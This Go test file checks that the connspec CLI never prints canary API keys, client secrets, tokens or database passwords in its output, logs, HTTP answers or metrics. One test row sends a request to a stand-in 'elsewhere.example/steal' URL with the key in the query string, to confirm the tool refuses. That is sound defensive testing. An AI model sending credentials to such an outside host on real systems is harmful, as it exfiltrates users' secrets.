package main

// Canary secrets through the CLI: every command runs with unique secret
// values in its inputs, parameters, credentials files, environment and in
// the answers of a failing provider, and fails the test if a secret shows
// on standard output or standard error (or, for serve, in its logs, its
// answers and /metrics).

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/connspec/connspec/engine/store"
)

// canaryCLIMarker is in every canary value below.
const canaryCLIMarker = "CNRY"

const (
	canaryCLIKey          = "sk_CNRY51goodkey+Zq/w=="
	canaryCLIWrongKey     = "sk_CNRY52wrongkey+Zq/w=="
	canaryCLIBadValue     = "bad_CNRY53badvalue+Zq/w=="
	canaryCLIClientSecret = "cs_CNRY54clientsecret+Zq/w=="
	canaryCLIIssued       = "at_CNRY55issued+Zq/w=="
	canaryCLIAccess       = "at_CNRY56access+Zq/w=="
	canaryCLIRefresh      = "rt_CNRY57refresh+Zq/w=="
	canaryCLIResolved     = "xoxb_CNRY58resolved+Zq/w=="
	canaryCLIAdminKey     = "admin_CNRY59adminkey"
	canaryCLIDBPassword   = "pw_CNRY60dbpassword"
	canaryCLIFixtureKey   = "sk_CNRY61fixturekey"
	canaryCLIHardcoded    = "hc_CNRY62hardcoded+Zq/w=="
	canaryCLINoEquals     = "sk_CNRY63noequals+Zq/w"
)

// canaryCLISecretKey is CONNSPEC_SECRET_KEY in these tests (base64 of 32
// bytes cannot carry the marker, so it is searched for as it is).
var canaryCLISecretKey = base64.StdEncoding.EncodeToString([]byte("CNRY-secret-key-of-32-bytes-abcd"))

// canaryCLIProvider answers like a provider that echoes what it was sent
// whenever it refuses it.
func canaryCLIProvider(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen := fmt.Sprintf("%s %s headers=%v body=%s", r.Method, r.URL.RequestURI(), r.Header, body)
		refuse := func(status int) {
			w.Header().Set("WWW-Authenticate", fmt.Sprintf("Bearer error=%q", seen))
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(status)
			json.NewEncoder(w).Encode(map[string]any{"error": "invalid_client", "error_description": "refused " + seen, "message": "you sent " + seen})
		}
		switch {
		case r.URL.Path == "/token":
			if _, pass, _ := r.BasicAuth(); pass != url.QueryEscape(canaryCLIClientSecret) {
				refuse(http.StatusUnauthorized)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{"access_token": canaryCLIIssued, "expires_in": 3600, "token_type": "bearer"})
		case r.URL.Path == "/token-refuse":
			refuse(http.StatusBadRequest)
		case strings.HasSuffix(r.URL.Path, "/quiet"):
			// A refusal that says nothing: what `request` prints of it is
			// the API's own answer.
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, `{"error":"forbidden"}`)
		case r.Header.Get("X-Api-Key") == canaryCLIKey && strings.HasSuffix(r.URL.Path, "/me"),
			r.Header.Get("Authorization") == "Bearer "+canaryCLIIssued && strings.HasSuffix(r.URL.Path, "/me"),
			r.URL.Query().Get("api_token") == canaryCLIKey && strings.HasSuffix(r.URL.Path, "/me"):
			io.WriteString(w, `{"id":"u1"}`)
		default:
			refuse(http.StatusUnauthorized)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// canaryCLIFixture is a directory of connectors for the provider, and the
// files the rows pass on the command line.
type canaryCLIFixture struct {
	dir string
	url string
}

func (f *canaryCLIFixture) path(name string) string { return filepath.Join(f.dir, name) }

// file writes a file into the fixture directory and returns its path.
func (f *canaryCLIFixture) file(t *testing.T, name, content string) string {
	t.Helper()
	p := f.path(name)
	if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func newCanaryCLIFixture(t *testing.T) *canaryCLIFixture {
	srv := canaryCLIProvider(t)
	f := &canaryCLIFixture{dir: t.TempDir(), url: srv.URL}
	repl := strings.NewReplacer("{{URL}}", srv.URL)
	f.file(t, "connectors/keyed.yml", repl.Replace(`key: keyed
name: Keyed
auth:
  type: client-credentials
  ui:
    schema:
      type: object
      properties:
        apiKey: {type: string, pattern: "^sk_[A-Za-z0-9_+/=]+$"}
        region: {type: string, enum: [eu, us]}
      required: [apiKey]
  makeApiClient:
    mapping:
      baseUri: {{URL}}/v1
      headers: {X-Api-Key: {$var: credentials.apiKey}}
  test:
    code: |
      export default async function ({ credentials, apiClient }) {
        console.log('testing with', credentials)
        console.debug('debug: testing with %j', credentials)
        try {
          return (await apiClient.get('/me')).id === 'u1'
        } catch (e) {
          throw new Error('the API refused ' + credentials.apiKey + ': ' + JSON.stringify(e.data))
        }
      }
`))
	f.file(t, "connectors/query.yml", repl.Replace(`key: query
name: Query
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: {{URL}}/q
      query: {api_token: {$var: credentials.token}}
  refreshCredentials:
    code: |
      export default async function ({ credentials }) {
        throw new Error('cannot refresh ' + credentials.token + ' with ' + credentials.refresh)
      }
  test:
    implementationType: rest-api-mapping
    mapping: {path: /me, method: GET}
`))
	cc := `key: {{KEY}}
name: Client credentials
auth:
  type: oauth2
  getOAuthConfig:
    mapping:
      grantType: client_credentials
      clientId: client-1
      clientSecret: {$var: connectorParameters.clientSecret}
      tokenUri: {{URL}}{{TOKEN}}
  makeApiClient:
    mapping:
      baseUri: {{URL}}/api
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.access_token}]}}
  test:
    implementationType: rest-api-mapping
    mapping: {path: {{TEST}}, method: GET}
`
	for key, r := range map[string][]string{"cc": {"/token", "/me"}, "ccrefused": {"/token-refuse", "/me"}, "cctestfails": {"/token", "/fail"}} {
		f.file(t, "connectors/"+key+".yml", strings.NewReplacer("{{KEY}}", key, "{{URL}}", srv.URL, "{{TOKEN}}", r[0], "{{TEST}}", r[1]).Replace(cc))
	}
	f.file(t, "connectors/code.yml", repl.Replace(`key: code
name: Code
auth:
  type: oauth2
  getOAuthConfig:
    mapping:
      clientId: client-1
      clientSecret: {$var: connectorParameters.clientSecret}
      authorizeUri: {{URL}}/authorize
      tokenUri: {{URL}}/token-refuse
  makeApiClient:
    mapping:
      baseUri: {{URL}}/api
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.access_token}]}}
`))
	return f
}

// canaryCLIResult is what a row produced: exit code and output, and any
// other text the command showed (a callback page, serve's answers).
type canaryCLIResult struct {
	code        int
	out, errOut string
	other       []string
}

func canaryCLIRun(args ...string) canaryCLIResult {
	var out, errOut bytes.Buffer
	code := run(args, &out, &errOut)
	return canaryCLIResult{code: code, out: out.String(), errOut: errOut.String()}
}

// canaryCLIRow is one command run.
type canaryCLIRow struct {
	name string
	run  func(t *testing.T, f *canaryCLIFixture) canaryCLIResult
	// code is the exit status the run must end with; want is in its
	// standard output or error.
	code int
	want string
}

func (r canaryCLIResult) leaks() []string {
	needles := []string{canaryCLIMarker, canaryCLISecretKey,
		base64.StdEncoding.EncodeToString([]byte("client-1:" + url.QueryEscape(canaryCLIClientSecret)))}
	var found []string
	for i, text := range append([]string{r.out, r.errOut}, r.other...) {
		for _, n := range needles {
			if j := strings.Index(text, n); j >= 0 {
				found = append(found, fmt.Sprintf("canary %q in text %d (0 stdout, 1 stderr, 2+ other): …%s…", n, i, text[max(0, j-200):min(len(text), j+len(n)+80)]))
			}
		}
	}
	return found
}

func TestCanarySecretsNeverInCLIOutput(t *testing.T) {
	t.Setenv("CONNSPEC_API_KEY", canaryCLIAdminKey)
	t.Setenv("CONNSPEC_SECRET_KEY", canaryCLISecretKey)
	t.Setenv("CONNSPEC_OLD_SECRET_KEYS", "")
	seen := map[string]bool{}
	for _, row := range canaryCLIRows() {
		if seen[row.name] {
			t.Fatalf("duplicate row %s", row.name)
		}
		seen[row.name] = true
		t.Run(row.name, func(t *testing.T) {
			res := row.run(t, newCanaryCLIFixture(t))
			if res.code != row.code {
				t.Errorf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", res.code, row.code, res.out, res.errOut)
			}
			if !strings.Contains(res.out+res.errOut, row.want) {
				t.Errorf("the output lacks %q\nstdout:\n%s\nstderr:\n%s", row.want, res.out, res.errOut)
			}
			for _, leak := range res.leaks() {
				t.Error(leak)
			}
		})
	}
}

func canaryCLIRows() []canaryCLIRow {
	keyed := func(f *canaryCLIFixture) string { return f.path("connectors/keyed.yml") }
	return []canaryCLIRow{
		// --- validate, inspect, schema, list ---
		{name: "validate/hardcoded-secret-next-to-errors", code: 1, want: "error", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			p := f.file(t, "bad/secretive.yml", `name: Secretive
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: https://api.example.com
      headers:
        X-Api-Key: `+canaryCLIHardcoded+`
        X-Other: {$var: credentails.apiKey}
        X-Broken: {$concat: "`+canaryCLIHardcoded+`"}
  test:
    mapping: {$expr: "credentials.apiKey == '`+canaryCLIHardcoded+`' &&"}
`)
			return canaryCLIRun("validate", p)
		}},
		{name: "validate/json-format", code: 1, want: `"severity"`, run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			p := f.file(t, "bad/secretive.yml", "name: S\nauth:\n  type: client-credentials\n  makeApiClient:\n    mapping: {baseUri: {$var: credentails.x}, headers: {K: \""+canaryCLIHardcoded+"\"}}\n  test:\n    mapping: {$unknownFormula: \""+canaryCLIHardcoded+"\"}\n")
			return canaryCLIRun("validate", "--format", "json", p)
		}},
		{name: "validate/yaml-syntax-error-on-a-secret-line", code: 1, want: "error", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			p := f.file(t, "bad/broken.yml", "name: B\nauth:\n  type: client-credentials\n  makeApiClient:\n    mapping:\n      headers: {X-Api-Key: \""+canaryCLIHardcoded+"\"\n      baseUri: [\n")
			return canaryCLIRun("validate", p)
		}},
		{name: "validate/missing-path", code: 2, want: "no such file", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("validate", f.path("nothing"))
		}},
		{name: "inspect/text-and-json", code: 0, want: "makeApiClient", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			p := f.file(t, "ok/secretive.yml", "name: S\nparametersSchema:\n  type: object\n  properties: {k: {type: string, default: \""+canaryCLIHardcoded+"\"}}\nauth:\n  type: client-credentials\n  makeApiClient:\n    mapping: {baseUri: https://api.example.com, headers: {X-Api-Key: \""+canaryCLIHardcoded+"\"}}\n")
			a, b := canaryCLIRun("inspect", p), canaryCLIRun("inspect", "--format", "json", p)
			return canaryCLIResult{code: max(a.code, b.code), out: a.out + b.out, errOut: a.errOut + b.errOut}
		}},
		{name: "schema", code: 0, want: "$schema", run: func(*testing.T, *canaryCLIFixture) canaryCLIResult { return canaryCLIRun("schema") }},
		{name: "list/every-format", code: 0, want: "stripe", run: func(*testing.T, *canaryCLIFixture) canaryCLIResult {
			var all canaryCLIResult
			for _, format := range []string{"text", "json", "markdown"} {
				r := canaryCLIRun("list", "--format", format)
				all.code, all.out, all.errOut = max(all.code, r.code), all.out+r.out, all.errOut+r.errOut
			}
			return all
		}},

		// --- test ---
		{name: "test/input-does-not-match-the-pattern", code: 1, want: "apiKey: does not have the expected form", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", keyed(f), "--input", "apiKey="+canaryCLIBadValue)
		}},
		{name: "test/input-not-in-the-enum", code: 1, want: "region: must be one of", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", keyed(f), "--input", "apiKey="+canaryCLIKey, "--input", "region="+canaryCLIBadValue)
		}},
		{name: "test/provider-refuses-and-echoes-the-key", code: 1, want: "failed: connection test failed", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", keyed(f), "--input", "apiKey="+canaryCLIWrongKey)
		}},
		{name: "test/secrets-from-files", code: 1, want: "failed: connection test failed", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			in := f.file(t, "input.json", `{"apiKey":"`+canaryCLIWrongKey+`"}`)
			params := f.file(t, "params.json", `{"clientSecret":"`+canaryCLIClientSecret+`"}`)
			return canaryCLIRun("test", keyed(f), "--input-file", in, "--params-file", params, "--verbose")
		}},
		{name: "test/bundled-connector-with-a-bad-key", code: 1, want: "apiKey", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", "stripe", "--input", "apiKey="+canaryCLIBadValue)
		}},
		{name: "test/session-login-refused-and-echoed", code: 1, want: "login was refused (HTTP 401)", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", canarySessionLogin(t, f, "/token"), "--input", "password="+canaryCLIWrongKey, "--verbose")
		}},
		{name: "test/session-login-failing-and-echoed", code: 1, want: "answered HTTP 400", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", canarySessionLogin(t, f, "/token-refuse"), "--input", "password="+canaryCLIWrongKey, "--verbose")
		}},
		{name: "test/credentials-file-not-json", code: 2, want: "not a JSON object", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			creds := f.file(t, "creds.json", "access_token: "+canaryCLIAccess+"\n")
			return canaryCLIRun("test", keyed(f), "--credentials", creds)
		}},
		{name: "test/input-file-not-json", code: 2, want: "not a JSON object", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			in := f.file(t, "input.json", `{"apiKey": "`+canaryCLIKey+`",`)
			return canaryCLIRun("test", keyed(f), "--input-file", in)
		}},
		{name: "test/input-without-equals", code: 2, want: "key=value", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", keyed(f), "--input", "apiKey:"+canaryCLINoEquals)
		}},
		{name: "test/param-without-equals", code: 2, want: "key=value", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("test", keyed(f), "--param", canaryCLINoEquals)
		}},
		{name: "test/refresh-fails-from-credentials-file", code: 1, want: "failed:", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			creds := f.file(t, "creds.json", `{"token":"`+canaryCLIWrongKey+`","refresh":"`+canaryCLIRefresh+`"}`)
			return canaryCLIRun("test", f.path("connectors/query.yml"), "--credentials", creds, "--verbose")
		}},
		{name: "test/resolver-fails-quoting-the-token-it-gave", code: 1, want: "resolver failed: resolver command exited with status 3: token [REDACTED] was revoked", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			// The API refuses the first answer (401); asked again, the
			// resolver fails and prints the token it gave before.
			script := f.file(t, "resolve.sh", `#!/bin/sh
input=$(cat)
case "$input" in
  *'"forceRefresh":true'*) echo "token `+canaryCLIResolved+` was revoked" >&2; exit 3 ;;
  *) echo '{"type":"apiKey","token":"`+canaryCLIResolved+`","ttl":60}' ;;
esac
`)
			os.Chmod(script, 0o700)
			return canaryCLIRun("test", f.path("connectors/query.yml"), "--account", "acct-1", "--resolver-cmd", script)
		}},
		{name: "test/resolver-prints-no-json", code: 1, want: "not an AuthResult", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			script := f.file(t, "resolve.sh", "#!/bin/sh\ncat >/dev/null\necho 'token="+canaryCLIResolved+"'\n")
			os.Chmod(script, 0o700)
			return canaryCLIRun("test", keyed(f), "--account", "acct-1", "--resolver-cmd", script)
		}},

		// --- request ---
		{name: "request/verbose-key-in-query", code: 1, want: "api_token=[REDACTED]", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("request", f.path("connectors/query.yml"), "GET", "/quiet?x=1", "--input", "token="+canaryCLIKey, "--verbose", "--include")
		}},
		{name: "request/verbose-key-in-header", code: 1, want: "X-Api-Key: [REDACTED]", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("request", keyed(f), "POST", "/quiet", "--input", "apiKey="+canaryCLIKey, "--verbose", "--data", `{"k":"v"}`, "-H", "X-Trace: t-1")
		}},
		{name: "request/verbose-refresh-fails", code: 1, want: "cannot refresh [REDACTED]", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			creds := f.file(t, "creds.json", `{"token":"`+canaryCLIWrongKey+`","refresh":"`+canaryCLIRefresh+`"}`)
			return canaryCLIRun("request", f.path("connectors/query.yml"), "GET", "/me", "--credentials", creds, "--verbose")
		}},
		{name: "request/network-error", code: 1, want: "connection refused", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			srv := httptest.NewServer(http.NotFoundHandler())
			srv.Close()
			p := f.file(t, "down.yml", "name: Down\nauth:\n  type: client-credentials\n  makeApiClient:\n    mapping:\n      baseUri: "+srv.URL+"\n      query: {api_token: {$var: credentials.token}}\n")
			return canaryCLIRun("request", p, "GET", "/me?again="+url.QueryEscape(canaryCLIKey), "--input", "token="+canaryCLIKey, "--verbose")
		}},
		{name: "request/other-host", code: 1, want: "refusing to send credentials", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("request", keyed(f), "GET", "https://elsewhere.example/steal?k="+url.QueryEscape(canaryCLIKey), "--input", "apiKey="+canaryCLIKey, "--verbose")
		}},
		{name: "request/header-without-colon", code: 2, want: "Key: value", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("request", keyed(f), "GET", "/me", "--input", "apiKey="+canaryCLIKey, "-H", "Authorization Bearer "+canaryCLIAccess)
		}},
		{name: "request/data-file-missing", code: 2, want: "--data", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("request", keyed(f), "POST", "/me", "--input", "apiKey="+canaryCLIKey, "--data", "@"+f.path("no-such-body.json"))
		}},

		// --- connect ---
		{name: "connect/client-credentials-grant", code: 0, want: "", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			out := f.path("creds.json")
			r := canaryCLIRun("connect", f.path("connectors/cc.yml"), "--param", "clientSecret="+canaryCLIClientSecret, "--out", out, "--no-browser", "--timeout", "10s")
			if data, err := os.ReadFile(out); err != nil || !strings.Contains(string(data), canaryCLIIssued) {
				t.Errorf("the credentials file: %s %v", data, err)
			}
			return r
		}},
		{name: "connect/client-credentials-refused-with-echo", code: 1, want: "invalid_client", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("connect", f.path("connectors/ccrefused.yml"), "--param", "clientSecret="+canaryCLIClientSecret, "--out", f.path("creds.json"), "--no-browser", "--timeout", "10s")
		}},
		{name: "connect/client-credentials-test-fails", code: 1, want: "connection test failed", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("connect", f.path("connectors/cctestfails.yml"), "--param", "clientSecret="+canaryCLIClientSecret, "--out", f.path("creds.json"), "--no-browser", "--timeout", "10s")
		}},
		{name: "connect/authorization-code-denied", code: 1, want: "access_denied", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIConnectCallback(t, f, func(state string) url.Values {
				return url.Values{"state": {state}, "error": {"access_denied"}, "error_description": {"client " + canaryCLIClientSecret + " refused"}}
			})
		}},
		{name: "connect/authorization-code-exchange-refused", code: 1, want: "oauth2: token endpoint returned HTTP 400", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIConnectCallback(t, f, func(state string) url.Values {
				return url.Values{"state": {state}, "code": {"code-" + canaryCLIAccess}}
			})
		}},

		// --- check ---
		{name: "check/fixture-mismatch-with-secret-placeholders", code: 1, want: "FAIL", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			f.file(t, "fixtures/keyedfx/spec.yml", `key: keyedfx
name: Keyed fixture
auth:
  type: client-credentials
  ui:
    schema:
      type: object
      properties: {apiKey: {type: string}}
      required: [apiKey]
  makeApiClient:
    mapping:
      baseUri: https://api.keyed.example/v1
      headers: {Authorization: {$concat: ["Token ", {$var: credentials.apiKey}]}}
  test:
    implementationType: rest-api-mapping
    mapping: {path: /me, method: GET}
`)
			f.file(t, "fixtures/keyedfx/fixtures.yml", `fixtures:
  - name: the key in the wrong scheme
    input: {apiKey: `+canaryCLIFixtureKey+`}
    requests:
      - method: GET
        url: https://api.keyed.example/v1/me
        headers: {Authorization: "Bearer {{credentials.apiKey}}"}
        respond: {json: {id: u1}}
    calls:
      - {method: GET, path: /me, status: 200}
    test: pass
`)
			return canaryCLIRun("check", f.path("fixtures"))
		}},

		// --- serve and rekey ---
		{name: "serve/json-debug-logs", code: 0, want: "", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult { return canaryCLIServe(t, f, "json") }},
		{name: "serve/text-debug-logs", code: 0, want: "", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult { return canaryCLIServe(t, f, "text") }},
		{name: "serve/params-file-not-a-map", code: 2, want: "must map connector keys", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			params := f.file(t, "params.yml", "clientSecret: "+canaryCLIClientSecret+"\n")
			return canaryCLIRun("serve", "--addr", "127.0.0.1:0", "--db", "sqlite:"+f.path("c.db"), "--connectors", f.path("connectors"), "--params-file", params)
		}},
		{name: "serve/postgres-dsn-with-password", code: 2, want: "cannot open the PostgreSQL store", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("serve", "--addr", "127.0.0.1:0", "--db", "postgres://connspec:"+canaryCLIDBPassword+"@127.0.0.1:1/connspec?connect_timeout=2", "--connectors", f.path("connectors"))
		}},
		{name: "serve/unknown-db-scheme-with-password", code: 2, want: "--db must be", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("serve", "--addr", "127.0.0.1:0", "--db", "mysql://connspec:"+canaryCLIDBPassword+"@db/connspec", "--connectors", f.path("connectors"))
		}},
		{name: "serve/secret-key-malformed", code: 2, want: "secret key", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			t.Setenv("CONNSPEC_SECRET_KEY", canaryCLIBadValue)
			return canaryCLIRun("serve", "--addr", "127.0.0.1:0", "--db", "sqlite:"+f.path("c.db"), "--connectors", f.path("connectors"))
		}},
		{name: "serve/old-secret-keys-malformed", code: 2, want: "old secret keys", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			t.Setenv("CONNSPEC_OLD_SECRET_KEYS", canaryCLISecretKey[:10]+","+canaryCLIBadValue)
			return canaryCLIRun("serve", "--addr", "127.0.0.1:0", "--db", "sqlite:"+f.path("c.db"), "--connectors", f.path("connectors"))
		}},
		{name: "serve/bad-log-level", code: 2, want: "--log-level", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("serve", "--log-level", "verbose", "--connectors", f.path("connectors"))
		}},
		{name: "rekey/moves-secrets", code: 0, want: "re-sealed", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			old := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{9}, 32))
			canaryCLISeal(t, f.path("c.db"), old)
			t.Setenv("CONNSPEC_OLD_SECRET_KEYS", old)
			return canaryCLIRun("rekey", "--db", "sqlite:"+f.path("c.db"))
		}},
		{name: "rekey/without-the-old-key", code: 2, want: "rekey stopped", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			canaryCLISeal(t, f.path("c.db"), base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{9}, 32)))
			return canaryCLIRun("rekey", "--db", "sqlite:"+f.path("c.db"))
		}},
		{name: "rekey/postgres-dsn-with-password", code: 2, want: "cannot open the PostgreSQL store", run: func(t *testing.T, f *canaryCLIFixture) canaryCLIResult {
			return canaryCLIRun("rekey", "--db", "postgres://connspec:"+canaryCLIDBPassword+"@127.0.0.1:1/connspec?connect_timeout=2")
		}},
	}
}

// canaryCLISeal stores credentials and connection input full of canaries
// in an SQLite store sealed with key (base64).
func canaryCLISeal(t *testing.T, path, key string) {
	t.Helper()
	raw, _ := base64.StdEncoding.DecodeString(key)
	c, err := store.NewCipher(raw)
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.OpenSQLite(path, c)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := context.Background()
	if _, err := st.CompareAndSwap(ctx, "c1", 0, map[string]any{"access_token": canaryCLIAccess, "refresh_token": canaryCLIRefresh}); err != nil {
		t.Fatal(err)
	}
	if err := st.PutConnection(ctx, store.ConnectionInfo{ID: "c1", Connector: "keyed", Input: map[string]any{"apiKey": canaryCLIKey}, CreatedAt: time.Now()}); err != nil {
		t.Fatal(err)
	}
}

// canaryCLIConnectCallback runs `connspec connect` for the authorization
// code connector, plays the browser with the callback query callback(state)
// and returns the command's output and the callback page.
func canaryCLIConnectCallback(t *testing.T, f *canaryCLIFixture, callback func(state string) url.Values) canaryCLIResult {
	t.Helper()
	pr, pw := io.Pipe()
	var stderr bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{"connect", f.path("connectors/code.yml"), "--no-browser", "--out", f.path("creds.json"), "--timeout", "20s",
			"--param", "clientSecret=" + canaryCLIClientSecret}, pw, &stderr)
		pw.Close()
	}()
	rd := bufio.NewReader(pr)
	line, err := rd.ReadString('\n')
	if err != nil {
		t.Fatalf("no URL printed: %v (%s)", err, stderr.String())
	}
	rest := make(chan string, 1)
	go func() { b, _ := io.ReadAll(rd); rest <- string(b) }()
	auth, err := url.Parse(strings.TrimSpace(line))
	if err != nil {
		t.Fatal(err)
	}
	cb, _ := url.Parse(auth.Query().Get("redirect_uri"))
	cb.RawQuery = callback(auth.Query().Get("state")).Encode()
	resp, err := http.Get(cb.String())
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	code := <-done
	return canaryCLIResult{code: code, out: line + <-rest, errOut: stderr.String(), other: []string{string(page)}}
}

// canaryCLIServe runs serve (logs at debug level in format), drives failing
// requests through it and returns its logs with every answer.
func canaryCLIServe(t *testing.T, f *canaryCLIFixture, format string) canaryCLIResult {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	params := f.file(t, "params.json", `{"cc":{"clientSecret":"`+canaryCLIClientSecret+`"},"ccrefused":{"clientSecret":"`+canaryCLIClientSecret+`"}}`)
	logs := &lockedBuffer{}
	addrc := make(chan string, 1)
	done := make(chan error, 1)
	go func() {
		done <- runServe(ctx, serveFlags{addr: "127.0.0.1:0", db: "sqlite:" + f.path("c.db"), connectorsDir: f.path("connectors"), paramsFile: params,
			keyFile: f.path("unused.key"), logFormat: format, logLevel: "debug", shutdownTimeout: 5 * time.Second}, logs, func(a string) { addrc <- a })
	}()
	var base string
	select {
	case a := <-addrc:
		base = "http://" + a
	case err := <-done:
		t.Fatalf("serve did not start: %v\n%s", err, logs)
	}
	var answers []string
	call := func(method, path, key, body string, want int) string {
		req, _ := http.NewRequest(method, base+path, strings.NewReader(body))
		if key != "" {
			req.Header.Set("Authorization", "Bearer "+key)
		}
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		data, _ := io.ReadAll(resp.Body)
		var h strings.Builder
		resp.Header.Write(&h)
		answers = append(answers, resp.Status+"\n"+h.String()+"\n"+string(data))
		if resp.StatusCode != want {
			t.Errorf("%s %s: %d, want %d: %s", method, path, resp.StatusCode, want, data)
		}
		return string(data)
	}
	call("GET", "/v1/connections", canaryCLIBadValue, "", 401)
	call("POST", "/v1/connections", canaryCLIAdminKey, `{"connector":"keyed","account":"a","input":{"apiKey":"`+canaryCLIBadValue+`"}}`, 422)
	call("POST", "/v1/connections", canaryCLIAdminKey, `{"connector":"keyed","account":"a","input":{"apiKey":"`+canaryCLIWrongKey+`"}}`, 422)
	call("POST", "/v1/connections", canaryCLIAdminKey, `{"connector":"ccrefused","account":"a","input":{}}`, 422)
	call("POST", "/v1/connections", canaryCLIAdminKey, `{"connector":"keyed","input":{"apiKey":"`+canaryCLIKey, 400)
	var conn struct{ ID string }
	json.Unmarshal([]byte(call("POST", "/v1/connections", canaryCLIAdminKey, `{"connector":"keyed","account":"a","input":{"apiKey":"`+canaryCLIKey+`"}}`, 201)), &conn)
	call("GET", "/v1/proxy/"+conn.ID+"/quiet", canaryCLIAdminKey, "", 403)
	call("GET", "/v1/connections/"+conn.ID, canaryCLIAdminKey, "", 200)
	call("GET", "/metrics", "", "", 200)
	cancel()
	if err := <-done; err != nil {
		t.Errorf("serve: %v", err)
	}
	if !strings.Contains(logs.String(), "DEBUG") || !strings.Contains(logs.String(), "[REDACTED]") {
		t.Errorf("serve logged nothing redacted at debug level:\n%s", logs)
	}
	return canaryCLIResult{errOut: logs.String(), other: answers}
}

// canarySessionLogin writes a session-login connector whose login (at path
// of the canary provider, which echoes what it refuses) sends the password
// in its JSON body and Basic auth.
func canarySessionLogin(t *testing.T, f *canaryCLIFixture, path string) string {
	return f.file(t, "connectors/session.yml", `name: Session
key: session
auth:
  type: session-login
  ui:
    schema:
      type: object
      properties:
        password: {type: string, format: password}
  getSessionLoginConfig:
    mapping:
      steps:
        - url: `+f.url+path+`
          basicAuth: {username: client-1, password: {$var: connectionInput.password}}
          json: {password: {$var: connectionInput.password}}
          extract: {token: access_token}
  makeApiClient:
    mapping:
      baseUri: `+f.url+`
      headers: {X-Session: {$var: credentials.token}}
  test:
    implementationType: javascript
    code: |
      export default async ({ apiClient }) => Boolean(await apiClient.get('/me'))
`)
}
